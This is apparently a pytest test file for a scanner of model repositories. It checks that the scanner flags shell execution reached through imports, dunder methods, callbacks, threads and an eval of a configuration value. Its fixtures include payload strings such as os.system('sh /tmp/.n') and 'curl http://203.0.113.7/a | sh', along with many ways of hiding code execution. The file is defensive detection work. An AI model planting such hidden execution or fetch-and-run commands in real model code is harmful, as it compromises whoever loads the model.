"""Code that is called from other files, by operators and by libraries: told where it runs, and look-alikes not."""

import json

import pytest

from modelscan_plus import linking
from modelscan_plus.core.coverage import CoverageState
from modelscan_plus.core.finding import Severity
from modelscan_plus.formats.text.python.follow import machine
from modelscan_plus.rules.tree import judge_tree
from tests.samples import inspect_tree, tree_of

CONFIG: dict[str, object] = {"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}
RUNS = "import os\ndef prepare(command='sh /tmp/.n'):\n    os.system(command)\n"
TAIL = "\nfrom torch import nn\nclass M(nn.Module):\n    pass\n"


def worst(model: str, settings: dict[str, object] | None = None, **files: str) -> int:
    """The worst finding for a repository whose model is this code; `__` in a name stands for a folder."""
    tree = {
        "config.json": json.dumps(CONFIG | (settings or {})).encode(),
        "modeling_x.py": (model + ("" if "class M" in model else TAIL)).encode(),
    }
    tree |= {f"{name.replace('___', '/')}.py": text.encode() for name, text in files.items()}
    return max((found.severity.rank for found in inspect_tree(tree)), default=0)


ACROSS = {
    "function": "from .kernels import prepare\nprepare()",
    "absolute": "import kernels\nkernels.prepare()",
    "module": "from . import kernels\nkernels.prepare()",
    "alias": "from . import kernels as k\nrun = k.prepare\nrun()",
    "star": "from .kernels import *\nprepare()",
    "argument": "from .kernels import prepare\nprepare('curl http://203.0.113.7/a | sh')",
    "by name": "import importlib\ngetattr(importlib.import_module('.kernels', __package__), 'prep' + 'are')()",
    "by path": "import importlib.util as u, os\ns = u.spec_from_file_location('k', os.path.join(os.path.dirname(__file__), 'kernels.py'))\nm = u.module_from_spec(s)\ns.loader.exec_module(m)\nm.prepare()",
    "decorator": "from .kernels import decorate\n@decorate\ndef f(): pass",
    "class": "from .kernels import Kernels\nKernels().go()",
    "base class": "from .kernels import Kernels\nclass K(Kernels): pass\nK().go()",
    "returned": "from .kernels import give\ngive()('sh /tmp/.n')",
    "table": "from .kernels import OPS\nOPS['prepare']()",
    "handed on": "from .kernels import prepare\nlist(map(prepare, ['sh /tmp/.n']))",
    "entry": "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self, config):\n        self.go = prepare\n    def forward(self, x):\n        return self.go('sh /tmp/.n')",
}
KERNELS = (
    RUNS
    + "def decorate(f):\n    prepare()\n    return f\nclass Kernels:\n    def go(self):\n        prepare()\n"
    + "def give():\n    return prepare\nOPS = {'prepare': prepare}\n"
)


@pytest.mark.parametrize("model", ACROSS.values(), ids=ACROSS)
def test_a_call_into_another_file_runs_what_stands_there(model: str) -> None:
    assert worst(model, kernels=KERNELS) >= Severity.HIGH.rank


def test_names_lead_on_through_packages() -> None:
    package = {"ops_____init__": "from .deep import prepare as go", "ops___deep": RUNS}
    assert worst("from .ops import go\ngo()", **package) == Severity.CRITICAL.rank


def test_the_finding_stands_where_it_happens_and_says_when() -> None:
    tree = {
        "config.json": json.dumps(CONFIG).encode(),
        "modeling_x.py": b"from .kernels import prepare\nprepare('sh /tmp/.n')" + TAIL.encode(),
        "kernels.py": RUNS.encode(),
    }
    found = [each for each in inspect_tree(tree) if each.severity is Severity.CRITICAL]
    assert [(each.artifact, each.location.line) for each in found] == [("kernels.py", 3)]
    assert "os.system(sh /tmp/.n) when the file is imported" in found[0].message


OFFERED = RUNS + "def decorate(f):\n    prepare()\n    return f\nclass Kernels:\n    def go(self):\n        prepare()\n"


@pytest.mark.parametrize(
    "model",
    [
        "from .kernels import prepare",
        "from .kernels import prepare\nif __name__ == '__main__':\n    prepare()",
        "from .kernels import prepare\ndef export():\n    prepare()",
        "from .kernels import Kernels\nK = Kernels",
        "from .kernels import decorate as d\nOPS = {'x': d}",
    ],
)
def test_what_another_file_offers_and_nobody_calls_weighs_little(model: str) -> None:
    assert worst(model, kernels=OFFERED) < Severity.HIGH.rank


PROTOCOLS = {
    "matmul": "class T:\n    def __matmul__(self, o):\n        go()\nT() @ 1",
    "right operand": "class T:\n    def __radd__(self, o):\n        go()\n1 + T()",
    "in place": "class T:\n    def __iadd__(self, o):\n        go()\nt = T()\nt += 1",
    "next": "class T:\n    def __iter__(self):\n        return self\n    def __next__(self):\n        go()\nlist(T())",
    "for": "class T:\n    def __getitem__(self, i):\n        go()\nfor x in T():\n    pass",
    "unpacking": "class T:\n    def __iter__(self):\n        go()\na, *b = T()",
    "in": "class T:\n    def __contains__(self, x):\n        go()\n1 in T()",
    "format": "class T:\n    def __format__(self, s):\n        go()\nf'{T()}'",
    "property": "class T:\n    @property\n    def x(self):\n        go()\nT().x",
    "class pattern": "class T:\n    __match_args__ = ('x',)\n    @property\n    def x(self):\n        go()\nmatch T():\n    case T(1):\n        pass",
    "getattr": "class T:\n    def __getattr__(self, n):\n        go()\nT().anything",
    "bool": "class T:\n    def __bool__(self):\n        go()\nif T():\n    pass",
    "del": "class T:\n    def __del__(self):\n        go()\nT()",
    "with": "class T:\n    def __enter__(self):\n        pass\n    def __exit__(self, *a):\n        go()\nwith T():\n    pass",
    "hash": "class T:\n    def __hash__(self):\n        go()\n{T(): 1}",
    "missing": "class T(dict):\n    def __missing__(self, k):\n        go()\nT()['x']",
    "class item": "class T:\n    def __class_getitem__(cls, k):\n        go()\nT[int]",
    "instance check": "class A(type):\n    def __instancecheck__(cls, o):\n        go()\nclass T(metaclass=A): pass\nisinstance(1, T)",
    "init subclass": "class T:\n    def __init_subclass__(cls, **k):\n        go()\nclass U(T): pass",
    "set name": "class T:\n    def __set_name__(self, o, n):\n        go()\nclass U:\n    x = T()",
    "descriptor": "class T:\n    def __get__(self, o, c):\n        go()\nclass U:\n    x = T()\nU().x",
    "reduce": "import copy\nclass T:\n    def __reduce__(self):\n        return go, ()\ncopy.copy(T())",
    "index": "class T:\n    def __index__(self):\n        go()\n[1][T()]",
    "len": "class T:\n    def __len__(self):\n        go()\nlen(T())",
    "compare": "class T:\n    def __lt__(self, o):\n        go()\nsorted([T(), T()])",
    "given to a library": "import json\nclass T:\n    def __repr__(self):\n        go()\njson.dumps(T())",
    "driven class": "import threading\nclass T(threading.Thread):\n    def run(self):\n        go()\nT().start()",
    "decoder": "import json\nclass T(json.JSONEncoder):\n    def default(self, o):\n        go()\njson.dumps({}, cls=T)",
    "mro entries": "class T:\n    def __mro_entries__(self, b):\n        go()\nclass U(T()): pass",
}


@pytest.mark.parametrize("model", PROTOCOLS.values(), ids=PROTOCOLS)
def test_methods_that_syntax_calls_run(model: str) -> None:
    assert worst(f"from .kernels import prepare as go\n{model}", kernels=RUNS) == Severity.CRITICAL.rank


@pytest.mark.parametrize(
    "model",
    [
        "class T:\n    def __matmul__(self, o):\n        return o\n    def dump(self):\n        go()\nT() @ 1",
        "class T:\n    @property\n    def x(self):\n        return 1\n    def y(self):\n        go()\nT().x",
        "class T:\n    def build(self):\n        go()\nU = [T]\nlen(U)",
    ],
)
def test_methods_that_nothing_calls_do_not_run(model: str) -> None:
    assert worst(f"from .kernels import prepare as go\n{model}", kernels=RUNS) < Severity.HIGH.rank


OTHERWISE = {
    "methodcaller": "import operator, os\noperator.methodcaller('system', 'sh /tmp/.n')(os)",
    "methodcaller across": "import operator\nfrom . import kernels\noperator.methodcaller('prepare')(kernels)",
    "attrgetter": "import operator\nfrom . import kernels\noperator.attrgetter('prepare')(kernels)()",
    "registry": "OPS = {}\ndef op(f):\n    OPS[f.__name__] = f\n    return f\n@op\ndef run():\n    go()\nOPS['run']()",
    "partial": "import functools\nfunctools.partial(go, 'sh /tmp/.n')()",
    "reduce": "import functools\nfunctools.reduce(lambda a, b: go(b), ['', 'sh /tmp/.n'])",
    "key": "sorted(['sh /tmp/.n'], key=go)",
    "atexit": "import atexit\natexit.register(go)",
    "thread": "import threading\nthreading.Thread(target=go, args=('sh /tmp/.n',)).start()",
    "timer": "import threading\nthreading.Timer(1, go).start()",
    "executor": "from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(go, 'sh /tmp/.n')",
    "coroutine": "import asyncio\nasync def main():\n    go()\nasyncio.run(main())",
    "finalizer": "import weakref\nweakref.finalize(object(), go, 'sh /tmp/.n')",
    "hook": "import sys\nsys.addaudithook(lambda *a: go())",
    "exception hook": "import sys\nsys.excepthook = lambda *a: go()",
    "finder": "import sys\nclass F:\n    def find_spec(self, *a):\n        go()\nsys.meta_path.append(F())",
    "handler": "import logging\nclass H(logging.Handler):\n    def emit(self, r):\n        go()\nlogging.getLogger().addHandler(H())",
    "closure": "def make(f):\n    def inner():\n        return f()\n    return inner\nmake(go)()",
    "generator": "def steps():\n    go()\n    yield 1\nfor s in steps():\n    pass",
    "global state": "CMD = None\ndef set_it(c):\n    global CMD\n    CMD = c\ndef run():\n    import os\n    os.system(CMD)\nset_it('sh /tmp/.n')\nrun()",
    "built class": "T = type('T', (), {'__init__': lambda self: go()})\nT()",
}


@pytest.mark.parametrize("model", OTHERWISE.values(), ids=OTHERWISE)
def test_callables_run_however_they_are_reached(model: str) -> None:
    assert worst(f"from .kernels import prepare as go\n{model}", kernels=RUNS) == Severity.CRITICAL.rank


@pytest.mark.parametrize(
    "model",
    [
        "OPS = {}\ndef op(f):\n    OPS[f.__name__] = f\n    return f\n@op\ndef run():\n    go()",
        "import functools\nf = functools.partial(go, 'sh /tmp/.n')",
        "import operator\nf = operator.methodcaller('system', 'x')",
        "def make(f):\n    def inner():\n        return f()\n    return inner\ng = make(go)",
    ],
)
def test_callables_that_are_only_kept_do_not_run(model: str) -> None:
    assert worst(f"from .kernels import prepare as go\n{model}", kernels=RUNS) < Severity.HIGH.rank


EVALUATED = {"rope": "(lambda o: o.system('sh /tmp/.n'))(__import__('os'))"}
READS = "class M:\n    def __init__(self, config):\n        self.x = eval(config.rope)"


def test_an_expression_of_the_configuration_is_judged_where_code_evaluates_it() -> None:
    assert worst(READS, dict(EVALUATED)) >= Severity.HIGH.rank
    assert worst(READS, {"rope": "max(1, 2) * 3"}) < Severity.HIGH.rank
    assert (
        worst("class M:\n    def __init__(self, config):\n        self.x = config.rope", dict(EVALUATED))
        < Severity.HIGH.rank
    )


@pytest.mark.parametrize("depth", [3, 20, 35])
def test_a_long_chain_of_calls_is_followed(depth: int) -> None:
    chain = "".join(f"def f{n}(c):\n    f{n + 1}(c)\n" for n in range(depth))
    assert (
        worst(f"from .kernels import prepare as f{depth}\n{chain}f0('sh /tmp/.n')", kernels=RUNS)
        == Severity.CRITICAL.rank
    )


def test_a_function_that_calls_itself_is_followed_to_its_end() -> None:
    model = "from .kernels import prepare as go\ndef f(n):\n    if n:\n        f(n - 1)\n    else:\n        go()\nf(99)"
    assert worst(model, kernels=RUNS) == Severity.CRITICAL.rank


def test_a_program_that_takes_too_many_steps_is_not_fully_analysed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(machine, "STEPS", 500)
    tree = tree_of({"config.json": json.dumps(CONFIG).encode(), "modeling_x.py": ("x = 1\n" * 400 + TAIL).encode()})
    coverage = tree.files["modeling_x.py"].coverage
    assert coverage.state is CoverageState.PARTIAL
    assert [reason.code for reason in coverage.reasons] == ["python-steps"]
    assert worst("x = 1\n" * 400 + RUNS + "prepare()") >= Severity.HIGH.rank


def test_calls_that_multiply_are_followed_once_for_all() -> None:
    model = "".join(f"def f{n}(x):\n    f{n + 1}(x + 1)\n    f{n + 1}(x * 2)\n" for n in range(30))
    model = f"from .kernels import prepare\n{model}def f30(x):\n    prepare()\nf0(1)"
    assert worst(model, kernels=RUNS) == Severity.CRITICAL.rank
    tree = tree_of({"config.json": json.dumps(CONFIG).encode(), "modeling_x.py": (model + TAIL).encode()})
    assert tree.files["modeling_x.py"].coverage.state is CoverageState.ANALYSED


def test_code_for_which_there_is_no_room_is_not_fully_analysed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(linking, "_LARGEST", 200)
    files = {
        "config.json": json.dumps(CONFIG).encode(),
        "modeling_x.py": f"from .kernels import prepare\n{TAIL}".encode(),
        "kernels.py": (RUNS + "# long\n" * 40).encode(),
    }
    _, context = judge_tree(tree_of(files))
    assert [(path, gap.code) for path, gap in context.gaps.items()] == [("kernels.py", "python-steps")]
